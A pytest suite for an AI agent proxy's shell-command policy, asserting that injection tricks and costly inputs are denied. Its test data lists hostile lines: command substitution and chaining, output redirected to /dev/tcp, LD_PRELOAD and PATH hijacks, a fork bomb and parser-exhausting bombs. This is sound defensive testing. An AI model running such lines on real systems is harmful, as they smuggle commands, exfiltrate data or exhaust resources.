"""What an attacker writes into a command line, and why it does not run.

Every program that a line names is allowed here, so that its form alone is what stops it.
"""

import os
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from doubles import CLIENT
from labelled import rows
from policies import PARSER, RUN, policy, shell

from proxy import process
from proxy.actions import Command, Invoke, ToolCall
from proxy.authorization.paths import Workspace
from proxy.decision import Allow, Deny
from proxy.reasons import Reason

ROOT = Path(__file__).parent.parent.parent
ALLOWED = ("ls", "cat", "echo", "id", "grep", "find", "git", "touch", "printf", "true")
NOT_PLAIN = Deny(Reason.COMMAND_NOT_PLAIN)


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    folder = tmp_path / "workspace"
    (folder / "src").mkdir(parents=True)
    (folder / "README.md").write_text("read me")
    opened = Workspace.open(str(folder), (), only=True)
    yield opened
    opened.close()


@pytest.mark.parametrize(
    "line",
    [
        # substitution, in every quoting that lets it through
        pytest.param("ls $(id)", id="substitution"),
        pytest.param('ls "$(id)"', id="substitution in double quotes"),
        pytest.param("ls a$(id)b", id="substitution inside a word"),
        pytest.param("ls \"a'$(id)'b\"", id="substitution in single quotes in double quotes"),
        pytest.param("ls ''$(id)''", id="substitution between empty quotes"),
        pytest.param("ls `id`", id="backticks"),
        pytest.param('ls "`id`"', id="backticks in double quotes"),
        pytest.param("ls a`id`b", id="backticks inside a word"),
        pytest.param("ls `\nid\n`", id="backticks over lines"),
        pytest.param("ls $(\nid\n)", id="substitution over lines"),
        pytest.param("ls $($(echo id))", id="substitution in a substitution"),
        pytest.param("ls ${ id;}", id="substitution without a subshell"),
        pytest.param("ls ${| id;}", id="substitution of a value"),
        pytest.param("$(echo ls)", id="substitution as the program"),
        pytest.param("`echo ls`", id="backticks as the program"),
        pytest.param("l$(echo s)", id="substitution in the program"),
        pytest.param('ls "${x:-$(id)}"', id="substitution in a default"),
        pytest.param('ls "${x/$(id)/}"', id="substitution in a replacement"),
        pytest.param('ls "$((a[$(id)]))"', id="substitution in a subscript"),
        pytest.param("ls $\\\n(id)", id="substitution cut by a continued line"),
        # processes as files
        pytest.param("cat <(id)", id="process substitution"),
        pytest.param("cat >(id)", id="process substitution for output"),
        pytest.param("cat < <(id)", id="process substitution as the input"),
        # lists
        pytest.param("ls; id", id="a second command after a semicolon"),
        pytest.param("ls;id", id="a second command without a space"),
        pytest.param("ls\nid", id="a second command on a line of its own"),
        pytest.param("ls # harmless\nid", id="a second command after a comment"),
        pytest.param("ls \\\n\nid", id="a second command after a continued line"),
        pytest.param("ls\n\n\nid\n", id="a second command after empty lines"),
        pytest.param("ls && id", id="and"),
        pytest.param("ls || id", id="or"),
        pytest.param("ls & id", id="a second command beside the first"),
        pytest.param("ls &", id="a command that goes on alone"),
        pytest.param("ls &\n", id="a command that goes on alone, with a line end"),
        pytest.param("ls;;", id="the end of a case"),
        pytest.param("ls &&", id="a list without an end"),
        pytest.param("&& ls", id="a list without a start"),
        # pipes
        pytest.param("ls | cat", id="a pipe"),
        pytest.param("ls|cat", id="a pipe without spaces"),
        pytest.param("ls |& cat", id="a pipe of errors too"),
        pytest.param("ls |\ncat", id="a pipe over lines"),
        pytest.param("ls |", id="a pipe without an end"),
        # redirections
        pytest.param("ls > out", id="output to a file"),
        pytest.param("ls >out", id="output without a space"),
        pytest.param("ls >> out", id="output added to a file"),
        pytest.param("ls >| out", id="output in spite of noclobber"),
        pytest.param("ls 2> out", id="errors to a file"),
        pytest.param("ls 2>&1", id="errors to the output"),
        pytest.param("ls &> out", id="everything to a file"),
        pytest.param("ls >& out", id="everything to a file, the old way"),
        pytest.param("ls &>> out", id="everything added to a file"),
        pytest.param("cat < in", id="input from a file"),
        pytest.param("cat <in", id="input without a space"),
        pytest.param("cat <> in", id="a file for both"),
        pytest.param("ls {fd}> out", id="output through a named descriptor"),
        pytest.param("ls 3<&0", id="a copied descriptor"),
        pytest.param("ls >&-", id="a closed descriptor"),
        pytest.param("> out", id="a redirection alone"),
        pytest.param("> out ls", id="a redirection before the program"),
        pytest.param("ls > /dev/tcp/10.0.0.1/80", id="output to the network"),
        # documents in the line
        pytest.param("cat <<E\nx\nE", id="a document"),
        pytest.param("cat <<'E'\nx\nE", id="a quoted document"),
        pytest.param("cat <<-E\n\tx\n\tE", id="an indented document"),
        pytest.param("cat <<E\n$(id)\nE", id="a document with a substitution"),
        pytest.param("cat <<E\nx\nE\nid", id="a command after a document"),
        pytest.param("cat <<E", id="a document without an end"),
        pytest.param("cat <<<x", id="a string as a document"),
        pytest.param("cat <<< $(id)", id="a string with a substitution"),
        # assignments
        pytest.param("A=1 ls", id="an assignment before the program"),
        pytest.param("A= ls", id="an empty assignment"),
        pytest.param("A=1", id="an assignment alone"),
        pytest.param("A+=1 ls", id="an assignment that adds"),
        pytest.param("A[0]=1 ls", id="an assignment to an element"),
        pytest.param("A=(1 2) ls", id="an assignment of a list"),
        pytest.param("LD_PRELOAD=./x.so ls", id="a library loaded first"),
        pytest.param("PATH=. ls", id="another place to find programs"),
        pytest.param("BASH_ENV=x ls", id="a script read first"),
        pytest.param("GIT_SSH_COMMAND=id git fetch", id="a program started by another"),
        pytest.param("PAGER=id git log", id="a pager that is none"),
        pytest.param("IFS=x ls", id="another separator of words"),
        # patterns
        pytest.param("ls *", id="any file"),
        pytest.param("ls a*b", id="any file inside a word"),
        pytest.param("ls ?", id="any character"),
        pytest.param("ls [ab]", id="one of some characters"),
        pytest.param("ls [!a]", id="none of some characters"),
        pytest.param("ls ['a'b]", id="one of some, partly quoted"),
        pytest.param("ls 'a'*", id="any file after a quoted part"),
        pytest.param("l?", id="any character in the program"),
        pytest.param("/bin/l*", id="any program of a folder"),
        pytest.param("ls @(a|b)", id="an extended pattern"),
        pytest.param("ls !(a)", id="an extended pattern of others"),
        pytest.param("ls +(a)", id="an extended pattern of many"),
        pytest.param("ls **/x", id="any depth"),
        # braces
        pytest.param("ls {a,b}", id="a list in braces"),
        pytest.param("ls a{b,c}d", id="a list in braces inside a word"),
        pytest.param("ls {1..9}", id="a range in braces"),
        pytest.param("ls {a..z..2}", id="a range with a step"),
        pytest.param("ls {a,{b,c}}", id="lists in lists"),
        pytest.param("ls {,a}", id="nothing, or something"),
        pytest.param("ls {'a',b}", id="a list in braces, partly quoted"),
        pytest.param("{ls,-la}", id="a program in braces"),
        # somebody's home
        pytest.param("ls ~", id="a home"),
        pytest.param("ls ~/x", id="a file at home"),
        pytest.param("ls ~root/x", id="a home by name"),
        pytest.param("ls ~+", id="the folder that this is"),
        pytest.param("ls ~-", id="the folder that was"),
        pytest.param("ls a=~/x", id="a home after an equals sign"),
        pytest.param("ls a:~/x", id="a home after a colon"),
        pytest.param("ls --file=~/x", id="a home in an option"),
        pytest.param("~/ls", id="a program at home"),
        # quoting that not every shell knows
        pytest.param("ls $'a'", id="C quoting"),
        pytest.param("ls $'\\x2e\\x2e'", id="C quoting of hidden dots"),
        pytest.param("$'\\x6c\\x73'", id="C quoting of the program"),
        pytest.param('ls $"a"', id="translated quoting"),
        pytest.param("ls a$'b'", id="C quoting inside a word"),
        # parameters
        pytest.param("ls $HOME", id="a parameter"),
        pytest.param('ls "$HOME"', id="a parameter in double quotes"),
        pytest.param("ls ${HOME}", id="a parameter in braces"),
        pytest.param("ls a${IFS}b", id="the separator as a parameter"),
        pytest.param("ls$IFS-la", id="the separator after the program"),
        pytest.param("ls $1 $@ $* $# $? $$ $! $0 $-", id="what the shell itself sets"),
        pytest.param("ls ${x:-y}", id="a default"),
        pytest.param("ls ${x@P}", id="a parameter expanded as a prompt"),
        pytest.param("ls ${!x}", id="a parameter named by another"),
        pytest.param("ls ${#x} ${x%y} ${x^} ${x:1:2}", id="parameters changed on the way"),
        pytest.param("$ls", id="a parameter as the program"),
        # arithmetic
        pytest.param("ls $((1 + 1))", id="arithmetic"),
        pytest.param("ls $[1 + 1]", id="arithmetic, the old way"),
        pytest.param("((1))", id="arithmetic as a command"),
        pytest.param("let a=1", id="arithmetic as a built-in"),
        # compound commands
        pytest.param("(ls)", id="a subshell"),
        pytest.param("{ ls; }", id="a group"),
        pytest.param("ls() { id; }", id="a function in the program's place"),
        pytest.param("function ls { id; }", id="a function by its keyword"),
        pytest.param("f() { id; }; f", id="a function that is called"),
        pytest.param(":(){ :|:& };:", id="a fork bomb"),
        pytest.param("if true; then id; fi", id="a condition"),
        pytest.param("for i in a; do id; done", id="a loop over words"),
        pytest.param("for ((;;)); do id; done", id="a loop over numbers"),
        pytest.param("while true; do id; done", id="a loop while"),
        pytest.param("until true; do id; done", id="a loop until"),
        pytest.param("select i in a; do id; done", id="a menu"),
        pytest.param("case a in *) id;; esac", id="a case"),
        pytest.param("[[ -n a ]]", id="a test"),
        pytest.param("[[ -n $(id) ]]", id="a test of a substitution"),
        pytest.param("coproc ls", id="a coprocess"),
        pytest.param("coproc x { ls; }", id="a coprocess with a name"),
        pytest.param("time ls", id="a timed command"),
        pytest.param("time -p ls", id="a timed command, as POSIX has it"),
        pytest.param("! ls", id="a negated command"),
        pytest.param("! ! ls", id="a command negated twice"),
        # declarations
        pytest.param("declare a=1", id="a declaration"),
        pytest.param("declare -x PATH=.", id="a declaration for programs"),
        pytest.param("export PATH=.", id="an export"),
        pytest.param("export a", id="an export without a value"),
        pytest.param("local a=1", id="a local variable"),
        pytest.param("readonly a=1", id="a constant"),
        pytest.param("typeset a=1", id="a type"),
        pytest.param("declare a=($(id))", id="a declaration of a list"),
        # what does not end
        pytest.param("ls '", id="a single quote without an end"),
        pytest.param('ls "', id="a double quote without an end"),
        pytest.param("ls $'", id="a C quote without an end"),
        pytest.param("ls `", id="a backtick without an end"),
        pytest.param("ls $(", id="a substitution without an end"),
        pytest.param("ls ${", id="a parameter without an end"),
        pytest.param("ls \\", id="a backslash at the end"),
        pytest.param("ls (", id="a parenthesis opened"),
        pytest.param("ls )", id="a parenthesis closed"),
        pytest.param("if ls", id="a condition without an end"),
    ],
)
async def test_what_is_more_than_one_plain_call_does_not_run(
    workspace: Workspace, line: str
) -> None:
    assert await policy(workspace, ALLOWED).decide(shell(line), CLIENT) == NOT_PLAIN


@pytest.mark.parametrize(
    "line",
    [
        # another spelling of an allowed name
        *("/bin/ls", "./ls", "../ls", "bin/ls", "/workspace/ls", "LS", "ls.exe", "ls:", "l\u017f"),
        *("'ls '", "' ls'", "'ls -la'", "\uff4c\uff53", "l\u0455", "ls\u0301", "%1", "''ls''x"),
        # a program or built-in that starts another one
        *("sh -c ls", "bash -c ls", "env ls", "sudo ls", "busybox ls", "xargs ls", "nice ls"),
        *("eval ls", "exec ls", "command ls", "builtin ls", "source x", ". x", "alias ls=id"),
        *("test -e x", "set -x", "trap ls EXIT", "enable -f x ls", "unset PATH", "{ls", "]"),
    ],
)
async def test_program_that_is_not_in_the_list_does_not_run(
    workspace: Workspace, line: str
) -> None:
    denied = Deny(Reason.COMMAND_NOT_ALLOWED)

    assert await policy(workspace, ALLOWED).decide(shell(line), CLIENT) == denied


async def test_empty_allowlist_admits_no_program(workspace: Workspace) -> None:
    denied = Deny(Reason.COMMAND_NOT_ALLOWED)

    for line in ("ls", "''x", "a", "/bin/ls"):
        assert await policy(workspace, ()).decide(shell(line), CLIENT) == denied


async def test_a_wildcard_in_the_list_is_a_name_like_any_other(workspace: Workspace) -> None:
    denied = Deny(Reason.COMMAND_NOT_ALLOWED)

    assert await policy(workspace, ("*", "l*")).decide(shell("ls"), CLIENT) == denied


# What the agent's own shell makes of a line that was judged here


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("f #\\\necho extra", id="a comment that ends in a backslash"),
        pytest.param('f "$\\\n(echo extra)"', id="a substitution cut by a continued line"),
        pytest.param("f $\\\n{PWD}", id="a parameter cut by a continued line"),
        pytest.param("f {{a},README.md}", id="braces in braces"),
        pytest.param("f a\\\\\\\nb", id="a line continued after an escaped backslash"),
    ],
)
async def test_a_line_handed_to_the_agent_means_to_its_shell_what_was_judged(
    workspace: Workspace, line: str
) -> None:
    """A tool of the agent's gets the line itself, and may well give it to a shell."""
    judged = await PARSER.parse(line)
    decision = await policy(workspace, ("f",)).decide(ToolCall(RUN.name, {"line": line}), CLIENT)
    if isinstance(decision, Deny):
        return

    assert isinstance(judged, Allow)
    assert isinstance(decision.value.plan, Invoke)
    shown = 'f() { for each; do printf "%s\\0" "$each"; done; }'
    script = f"{shown}\n{decision.value.plan.arguments['line']}"
    done = await process.run(("/bin/bash", "-c", script), b"", limit=1 << 16, seconds=5)
    assert done.output == b"".join(word.encode() + b"\0" for word in judged.value[1:])


# Lines that are made to cost


BOMBS = {
    "two thousand pipes": "a|" * 2000,
    "a thousand nested substitutions": "$(" * 1000,
    "as many nested substitutions as are read": "$(" * 333 + ")" * 333,
    "nested defaults": "${a:-" * 999 + "}" * 999,
    "arithmetic without an end": "let " + "1+" * 32000 + "1",
    "negations without an end": "[[ " + "! " * 30000 + "a ]]",
    "nested groups": "{ " * 32000,
    "conditions in conditions": "if " * 20000,
    "a list of many words": "a=(" + "b " * 32000 + ")",
    "a document of 64 kB": "cat <<E\n" + "x" * 65000 + "\nE",
    "more than 64 kB": "ls " + "a" * 65536,
    "a megabyte": "ls " + "a " * 500_000,
    "more operators than are read": "ls;" * 20000,
}


@pytest.mark.slow
@pytest.mark.parametrize("bomb", BOMBS)
async def test_a_line_that_is_made_to_cost_is_denied_in_time(
    workspace: Workspace, bomb: str
) -> None:
    started = time.monotonic()
    decision = await policy(workspace, ALLOWED).decide(shell(BOMBS[bomb]), CLIENT)

    assert decision in (NOT_PLAIN, Deny(Reason.COMMAND_TOO_COMPLEX))
    assert time.monotonic() - started < 3


@pytest.mark.slow
@pytest.mark.parametrize(
    "bomb",
    [
        "as many nested substitutions as are read",
        "nested defaults",
        "nested groups",
    ],
)
def test_a_line_that_is_made_to_cost_takes_bounded_memory(bomb: str) -> None:
    script = (
        "import asyncio, resource, sys;"
        "from proxy.authorization.commands import CommandParser, find_parser;"
        "asyncio.run(CommandParser(find_parser()).parse(sys.stdin.read()));"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss,"
        # not RUSAGE_SELF, which remembers what the parent had
        " open('/proc/self/status').read().partition('VmHWM:')[2].split()[0])"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        input=BOMBS[bomb],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
        timeout=30,
    )
    parser, own = (int(kilobytes) >> 10 for kilobytes in done.stdout.split())

    assert parser < 256
    assert own < 128


async def test_nothing_is_left_open_by_what_is_denied(workspace: Workspace) -> None:
    rules = policy(workspace, ALLOWED)
    before = len(os.listdir("/proc/self/fd"))
    for line in ("ls", "ls |", "''", "rm", "ls \0", "a|" * 900, "a " * 30000):
        await rules.decide(shell(line), CLIENT)

    assert len(os.listdir("/proc/self/fd")) == before


# The labelled cases


CORE_ALLOW = ("core", "allow")
# A pattern that is written like a path: only a table of what each program takes could tell.
LIKE_A_PATH = frozenset({"a0682"})


async def test_every_labelled_benign_call_is_one_plain_call() -> None:
    cases = [row for row in rows("commands.json") if (row["tier"], row["expect"]) == CORE_ALLOW]
    refused = {row["id"] for row in cases if isinstance(await PARSER.parse(row["command"]), Deny)}

    assert len(cases) > 60
    assert refused == set()


async def test_labelled_commands_are_decided_as_far_as_their_form_tells(
    workspace: Workspace,
) -> None:
    """Options that make a listed program dangerous are judged by a table that is yet to come."""
    (Path(workspace.folder) / "src" / "app.py").write_text("app")
    wrong: Counter[str] = Counter()
    denied_benign = set()
    for row in rows("commands.json"):
        decision = await policy(workspace, row["allowed_commands"]).decide(
            shell(row["command"]), CLIENT
        )
        if isinstance(decision, Allow):
            assert isinstance(decision.value.plan, Command)
            assert decision.value.plan.argv[0] in row["allowed_commands"]
            wrong[row["tier"]] += row["expect"] == "deny"
        elif (row["tier"], row["expect"]) == CORE_ALLOW:
            denied_benign.add(row["id"])

    assert denied_benign <= LIKE_A_PATH
    assert wrong["core"] <= 20
